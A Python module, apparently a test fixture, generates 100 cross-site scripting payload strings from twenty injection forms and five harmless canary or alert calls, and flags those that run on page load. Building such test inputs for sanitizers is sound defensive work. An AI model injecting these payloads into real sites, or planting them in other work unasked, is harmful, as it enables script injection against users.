"""A hundred texts that would run a script if anything took them for markup, an attribute, an address or code."""

from __future__ import annotations

CALLS = ("canary(1)", "alert(1)", "window.canary(1)", "top.canary(1)", "self['can'+'ary'](1)")
_FORMS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    '"><svg/onload={call}>',
    "'><img src=x onerror={call} x='",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<details open ontoggle={call}>x",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<a href=javascript:{call}>点这里</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "--><img src=x onerror={call}>",
    "javascript:{call}",
    "${{{call}}}{{{{{call}}}}}",
    "\\u003cimg src=x onerror={call}\\u003e",
    "&lt;img src=x onerror={call}&gt;<style onload={call}></style>",
)
PAYLOADS = tuple(form.format(call=call) for form in _FORMS for call in CALLS)
# Those that a browser runs by itself when they are set as a page's markup; the others want a click or a parser.
SELF_RUNNING = tuple(text for text in PAYLOADS if text.startswith(("<img src=x", "<details open", "<video>")))
